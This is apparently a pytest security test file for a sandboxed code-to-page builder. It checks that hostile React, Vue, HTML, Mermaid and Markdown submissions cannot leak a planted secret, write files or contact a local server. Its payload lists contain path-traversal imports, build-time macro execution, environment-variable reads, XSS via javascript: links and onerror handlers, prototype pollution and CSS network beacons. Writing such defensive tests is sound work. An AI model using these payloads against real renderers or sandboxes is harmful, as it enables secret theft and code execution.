# ruff: noqa: E501  # a program is a line
"""Answers that attack while they are built: nothing of the machine gets into a page, nothing runs, nothing is asked.

The builder is started here as it is started in the sandbox, but outside of it, where there would be something to
find: a secret in a file, one in its environment, a server that listens.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.async_api import Frame

from .conftest import Visitor, build

SECRET = "TOP-SECRET-7321"


@dataclass
class Machine:
    """What there is to find and to reach."""

    file: Path
    made: Path
    address: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Machine]:
    secret = tmp_path / "secret.js"
    secret.write_text(
        f"export default '{SECRET}'; export const max = () => '{SECRET}'; export interface T {{ a: '{SECRET}' }}"
    )
    (tmp_path / "secret.css").write_text(f"p::before {{ content: '{SECRET}' }}")
    (tmp_path / "run.ts").write_text(
        f"import fs from 'fs'; export function run() {{ fs.writeFileSync('{tmp_path}/made', ''); return '{SECRET}'; }}"
    )
    (tmp_path / "bunfig.toml").write_text(f'preload = ["{tmp_path}/preload.ts"]\n')
    (tmp_path / "preload.ts").write_text(f"require('fs').writeFileSync('{tmp_path}/made', '')")
    monkeypatch.setenv("A_SECRET", SECRET)
    monkeypatch.chdir(tmp_path)  # as beside an attached configuration file for Bun
    machine = Machine(secret, tmp_path / "made", "")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            machine.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(machine.file.read_bytes())

        def log_message(self, *_: object) -> None:
            """Not in the tests' output."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        machine.address = f"http://127.0.0.1:{server.server_port}"
        yield machine
        server.shutdown()
        thread.join()


SHOW = "export default () => <b>{{String(a)}}</b>"
# {F} is the secret's file, {D} its folder, {U} the server.
REACT = [
    f"import a from '{{F}}';\n{SHOW}",
    f"import a from 'file://{{F}}';\n{SHOW}",
    f"import a from '{{U}}/a.js';\n{SHOW}",
    f"import a from '//{{U}}/a.js';\n{SHOW}",
    f"import a from '{{F}}' with {{{{ type: 'text' }}}};\n{SHOW}",
    f"import a from '{{F}}' with {{{{ type: 'file' }}}};\n{SHOW}",
    f"import a from '{{D}}' with {{{{ type: 'sqlite', embed: 'true' }}}};\n{SHOW}",
    f"import {{{{ run }}}} from '{{D}}/run.ts' with {{{{ type: 'macro' }}}};\nconst a = run();\n{SHOW}",
    f"import {{{{ run }}}} from 'macro:{{D}}/run.ts';\nconst a = run();\n{SHOW}",
    f"import {{{{ max }}}} from 'd3' with {{{{ type: 'macro' }}}};\nconst a = max([1]);\n{SHOW}",
    f"const a = require('{{F}}');\n{SHOW}",
    f"const a = import.meta.require('{{F}}');\n{SHOW}",
    f"const a = new URL('{{F}}', import.meta.url);\n{SHOW}",
    f"let a = ''; import('{{F}}').then(m => a = m);\n{SHOW}",
    f"let a = ''; const where = '{{F}}'; import(where).then(m => a = m);\n{SHOW}",
    f"const a = import.meta.glob('{{D}}/*', {{{{ eager: true }}}});\n{SHOW}",
    f"const a = process.env.A_SECRET + Bun?.env?.A_SECRET;\n{SHOW}",
    f"const a = import.meta.env.A_SECRET;\n{SHOW}",
    f"const a = Bun.file('{{F}}');\n{SHOW}",
    f"/** @jsxImportSource {{D}} */\nconst a = 1;\n{SHOW}",
    f"/** @jsxImportSource {{U}} */\nconst a = 1;\n{SHOW}",
    f"/** @jsxRuntime classic */\n/** @jsx require('{{F}}') */\nconst a = 1;\n{SHOW}",
    f"/// <reference path='{{F}}' />\nconst a = 1;\n{SHOW}\n//# sourceMappingURL={{F}}",
    f"import a from 'react/../../../../../../../..{{F}}';\n{SHOW}",
    f"import a from 'three/examples/jsm/../../../../../../../../../..{{F}}';\n{SHOW}",
    f"import a from 'three/addons/../../../..{{F}}';\n{SHOW}",
    f"import a from 'react/../libraries.json';\n{SHOW}",
    f"import a from 'https://unpkg.com/../../..{{F}}';\n{SHOW}",
    f"import a from 'https://esm.sh/d3?deps={{U}}';\n{SHOW}",
    f"import a from 'answer:entry';\n{SHOW}",
    f"import a from 'member:react#a from \"{{F}}\"; export {{{{ x';\n{SHOW}",
    f"import a from 'global:process';\n{SHOW}",
    f"import a from 'nothing:{{F}}';\n{SHOW}",
    f"import a from 'bun:sqlite';\n{SHOW}",
    f"import a from 'bun:ffi';\n{SHOW}",
    f"import a from '\\x00{{F}}';\n{SHOW}",
    f"import a from '%2e%2e/{{F}}';\n{SHOW}",
    f"import '{{D}}/secret.css';\nconst a = 1;\n{SHOW}",
    f"import a from './secret.css?inline';\n{SHOW}",
    f"export * from '{{F}}';\nconst a = 1;\n{SHOW}",
    f"import a = require('{{F}}');\n{SHOW}",
    f"const a = `<!--codearena:scripts ../libraries.json--><!--codearena:styles ../../../../../..{{F}}-->`;\n{SHOW}",
]  # fmt: skip
VUE = [
    "<template src='{F}'></template>",
    "<script src='{F}'></script><template>x</template>",
    "<script setup src='{F}'></script><template>x</template>",
    "<template>x</template><style src='{D}/secret.css'></style>",
    "<template>x</template><style>@import '{D}/secret.css'; @import url({U}/a.css); p {{ background: url({U}/a.png) }}</style>",
    "<template>x</template><style lang='scss'>@use '{D}/secret.css';</style>",
    "<template>x</template><style scoped>p {{ color: v-bind('require(`{F}`)') }}</style>",
    "<template lang='pug'>include {F}</template>",
    "<script lang='coffee'>a = require '{F}'</script><template>x</template>",
    "<script setup lang='ts'>import type {{ T }} from '{F}'; defineProps<T>()</script><template>x</template>",
    "<script setup lang='ts'>defineProps<import('{F}').T>()</script><template>x</template>",
    "<script setup lang='ts'>import type {{ T }} from './secret'; defineProps<T>()</script><template>x</template>",
    "<script setup>import {{ run }} from '{D}/run.ts' with {{ type: 'macro' }}; const a = run()</script><template>{{{{ a }}}}</template>",
    "<i18n src='{F}'></i18n><docs>{F}</docs><custom lang='js'>require('fs').writeFileSync('{D}/made', '')</custom><template>x</template>",
    "<template><img src='{F}'><img src='@/a.png'><img :src=\"require('{F}')\"></template>",
    "<template>{{{{ constructor.constructor('return process.env.A_SECRET')() }}}}</template>",
]  # fmt: skip
HTML = [
    "<script type=module src='{F}'></script><script type=module>import '{F}'</script>",
    "<script type=text/babel src='{F}'></script><script type=text/babel>import a from '{F}'; a()</script>",
    "<script type=importmap>{{\"imports\": {{\"a\": \"file://{F}\", \"b/\": \"{D}/\"}}}}</script><script type=module>import a from 'a'; import c from 'b/secret.js'; a(c)</script>",
    "<script type=importmap>{{\"imports\": {{\"a\": \"{U}/a.js\"}}}}</script><script type=module>import a from 'a'; a()</script>",
    "<link rel=stylesheet href='file://{D}/secret.css'><link rel=stylesheet href='{U}/a.css'><script>1</script>",
    "<script src='https://cdn.jsdelivr.net/npm/..{F}'></script>",
    "<script src='https://cdnjs.cloudflare.com/ajax/libs/../../..{F}'></script>",
    "<script>1</script><!--codearena:scripts ../libraries.json--><!--codearena:styles ..{F}-->",
    "<script src='https://cdn.tailwindcss.com'></script><style type='text/tailwindcss'>@import '{D}/secret.css'; @plugin '{F}'; @config '{F}'; @source '{D}'; @reference '{U}/a.css';</style><p class=m-4>",
    "<script src='https://cdn.tailwindcss.com'></script><script>tailwind.config = {{ plugins: [() => {{ fetch('{U}/a') }}], content: ['{D}/*'], presets: [{{ plugins: ['{F}'] }}] }}</script><p class=m-4>",
]  # fmt: skip
MERMAID = [
    "%%{{init: {{'securityLevel': 'loose', 'htmlLabels': true}}}}%%\ngraph TD; A[\"<img src='{U}/a' onerror='fetch(`{U}/b`)'>\"]",
    "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD; A[\"<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>\"]",
    "graph TD; A[a]\nclick A \"{U}/a\" _top",
    "graph TD; A[a]\nclick A href \"javascript:window.ran = 1\"",
    "graph TD; A[a]\nclick A call ran()",
    "%%{{init: {{'themeCSS': '}} svg {{{{ background: url({U}/a) }}}} @import url({U}/b);'}}}}%%\ngraph TD; A",
    "%%{{init: {{'fontFamily': 'x; background: url({U}/a)', 'themeVariables': {{'primaryColor': 'url({U}/b)'}}}}}}%%\ngraph TD; A",
    "graph TD; A@{{ img: \"{U}/a.png\", label: \"x\" }}\nclassDef x fill:url({U}/b)\nclass A x",
    "graph TD; A[\"$$\\\\href{{javascript:window.ran=1}}{{x}}$$\"]",
    "sequenceDiagram\nA->>B: <iframe src='{U}/a'></iframe>\nlink A: x @ javascript:window.ran=1",
    "%%{{init: {{'__proto__': {{'polluted': 1}}, 'constructor': {{'prototype': {{'polluted': 1}}}}}}}}%%\ngraph TD; A",
]  # fmt: skip
MARKDOWN = [
    "<iframe src='{U}/a'></iframe><iframe srcdoc=\"<img src='{U}/b'>\"></iframe><object data='{U}/c'></object>",
    "<script>window.ran = 1</script>\n\n[x](javascript:window.ran=1) ![y]({U}/a.png) <{U}/b>",
    "<link rel=stylesheet href='{U}/a.css'><style>@import url({U}/b.css); body {{ background: url({U}/c) }}</style><meta http-equiv=refresh content='0;url={U}/d'>",
    "$\\href{{javascript:window.ran=1}}{{x}} \\includegraphics{{{U}/a.png}} \\htmlData{{a=b}}{{c}}$",
    "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD; A[\"<img src={U}/a onerror='window.ran = 1'>\"]\n```",
    "![x](file://{F})\n\n<img src='file://{F}'><form action='{U}/a'><button>x</button></form>",
]  # fmt: skip
LISTS = {"react": REACT, "vue": VUE, "html": HTML, "mermaid": MERMAID, "markdown": MARKDOWN}


@pytest.mark.parametrize("kind", LISTS)
def test_nothing_of_the_machine_gets_into_a_page_and_nothing_is_asked(
    kind: str, machine: Machine, visitor: Visitor
) -> None:
    told = {"F": machine.file, "D": machine.file.parent, "U": machine.address}
    built = {code: build(kind, code) for code in (raw.format(**told) for raw in LISTS[kind])}
    for code, page in built.items():
        assert SECRET not in (page.html or "") + page.problems, code
        assert page.html is not None or page.problems, code
    assert not machine.made.exists()
    assert machine.asked == []


def test_nothing_that_a_text_or_a_diagram_holds_runs_or_asks(machine: Machine, visitor: Visitor) -> None:
    texts = [*MARKDOWN, *(f"```mermaid\n{text}\n```" for text in MERMAID)]
    told = {"F": machine.file, "D": machine.file.parent, "U": machine.address}
    page = build("markdown", "\n\n".join(texts).format(**told))

    async def wait(frame: Frame) -> object:
        await frame.wait_for_function("!document.querySelector('code.language-mermaid')", timeout=30_000)
        for element in await frame.query_selector_all("a"):
            await element.dispatch_event("click")
        return await frame.evaluate("window.ran ?? ({}).polluted ?? 'nothing'")

    visit = visitor.visit(page.html or "", wait)
    assert visit.result == "nothing"
    assert machine.asked == []
    # They were drawn and shown, not refused.
    assert "iframe" in (page.html or "")
    assert any("was blocked, pages have no network" in line for line in visit.console)
